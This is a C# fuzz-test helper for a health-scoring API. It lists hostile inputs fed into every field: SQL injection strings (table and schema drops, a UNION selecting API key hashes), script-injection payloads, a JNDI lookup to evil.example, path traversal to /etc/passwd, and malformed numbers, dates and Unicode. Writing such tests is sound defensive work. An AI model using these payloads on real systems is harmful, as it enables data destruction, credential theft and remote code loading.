using System.Text;
using System.Text.Json.Nodes;

namespace HealthScoring.Api.Tests.Fuzz;

/// <summary>The hostile strings, numbers and wrongly-typed values the fuzzer puts into every field.</summary>
internal static class HostileValues
{
    /// <summary>SQL injection: quoting, stacked statements, comments, time-based probes, PostgreSQL specifics.</summary>
    public static readonly string[] Sql =
    [
        "' OR '1'='1", "'; DROP TABLE events; --", "Robert'); DROP TABLE students;--", "1; select pg_sleep(5); --",
        "\" OR \"\"=\"", "' UNION SELECT key_hash, null FROM api_keys --", "$$; drop schema public cascade; $$", "%' AND 1=1 --",
        "admin'/*", "\\'; select 1; --", "1' ORDER BY 1--+", "'||(select current_user)||'", "E'\\x00'", "{\"a\":\"' OR 1=1\"}",
    ];

    /// <summary>HTML and script injection, including attribute breakouts and URL schemes.</summary>
    public static readonly string[] Html =
    [
        "<script>window.__fuzzed=1</script>", "<img src=x onerror=\"window.__fuzzed=1\">", "\"><svg onload=alert(1)>", "javascript:alert(1)",
        "</title><script>alert(1)</script>", "<iframe src=\"//evil.example\"></iframe>", "' autofocus onfocus='alert(1)", "{{constructor.constructor('alert(1)')()}}",
        "<a href=\"javascript:alert(1)\">x</a>", "&lt;script&gt;", "<style>*{display:none}</style>", "${jndi:ldap://evil.example/a}",
    ];

    /// <summary>Everything else that breaks careless code: control characters, odd Unicode, paths, formats, numbers as text.</summary>
    public static readonly string[] Odd =
    [
        "", " ", "\t", "a\u0001b", "\u001b[31mred", "line\nbreak", "cr\rlf", "\u202Eevil\u202C", "\uFEFFbom", "zero\u200Bwidth", "🔥💯", "𝕳𝖊𝖑𝖑𝖔",
        "../../../../etc/passwd", "..\\..\\windows", "%00", "%s%s%s%n", "{0}{1}", "NaN", "Infinity", "-0", "1e309", "null", "true", "[]", "{}",
        "ǅǈǋ", "İıŞş", "\u0085next", "\u2028sep\u2029", "👨‍👩‍👧‍👦", "a\\b", "\"quoted\"", "tab\tin", new string('x', 300),
    ];

    /// <summary>Strings PostgreSQL or UTF-8 cannot hold: NUL and lone surrogates.</summary>
    public static readonly string[] Unstorable = ["nul\0inside", "\0", "lone \uD800 high", "lone \uDC00 low", "\uDFFF\uD800 reversed"];

    /// <summary>NUL alone: protobuf strings are UTF-8, so an unpaired surrogate cannot even be sent over gRPC.</summary>
    public static readonly string[] Nul = ["nul\0inside", "\0", "trailing\0"];

    public static T Pick<T>(Random random, T[] values) => values[random.Next(values.Length)];

    /// <summary>Any hostile string that UTF-8 and PostgreSQL can store.</summary>
    public static string Storable(Random random) => random.Next(3) switch
    {
        0 => Pick(random, Sql),
        1 => Pick(random, Html),
        _ => Pick(random, Odd),
    };

    /// <summary>A string of <paramref name="length"/> characters mixing ASCII and wider characters.</summary>
    public static string Huge(Random random, int length)
    {
        var builder = new StringBuilder(length);
        while (builder.Length < length)
        {
            builder.Append(random.Next(4) == 0 ? "é漢" : "abcdefghij");
        }

        return builder.ToString(0, length);
    }

    /// <summary>A JSON value of the wrong type for a string or object field, or a hostile number.</summary>
    public static JsonNode? WrongType(Random random) => random.Next(10) switch
    {
        0 => JsonValue.Create(random.Next()),
        1 => JsonValue.Create(true),
        2 => new JsonArray(JsonValue.Create("a"), JsonValue.Create(1)),
        3 => new JsonObject { ["nested"] = "object" },
        4 => null,
        5 => JsonValue.Create(-0.0),
        6 => JsonValue.Create(double.MaxValue),
        7 => JsonValue.Create(long.MinValue),
        8 => JsonValue.Create(""),
        _ => JsonValue.Create(Storable(random)),
    };

    /// <summary>Number literals JSON allows that overflow every .NET and PostgreSQL numeric type.</summary>
    public static readonly string[] HugeNumbers =
    [
        "1e400", "-1e400", "1e999999", "123456789012345678901234567890123456789012345678901234567890", "0.000000000000000000000000000000000001",
        "-0", "4.9e-324", "1.7976931348623157e309", "9223372036854775808", "-9223372036854775809", "1E+2147483648",
    ];

    /// <summary>Dates and times at and past the edges of every calendar type.</summary>
    public static readonly string[] Times =
    [
        "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-02-30T00:00:00Z",
        "1970-01-01T00:00:00Z", "2026-11-21", "not a date", "", "2026-11-21T25:61:61Z", "+275760-09-13T00:00:00Z", "2026-11-21T10:00:00.123456789012Z",
    ];

    /// <summary>Query-string dates (YYYY-MM-DD expected) at and past the edges.</summary>
    public static readonly string[] Dates =
    [
        "0001-01-01", "9999-12-31", "0000-01-01", "2026-02-30", "2026-13-01", "-2026-01-01", "+002026-01-01", "2026-1-1", "20261121", "today", "",
        "2026-11-21T00:00:00Z", "99999-01-01", "0001-01-02", "9999-12-30",
    ];

    /// <summary>Numbers as text for integer query parameters.</summary>
    public static readonly string[] Integers = ["0", "-1", "1", "500", "501", "2147483647", "2147483648", "-2147483649", "99999999999999999999", "1e3", "0x10", " 5 ", "ten", "5.5", "٣"];
}
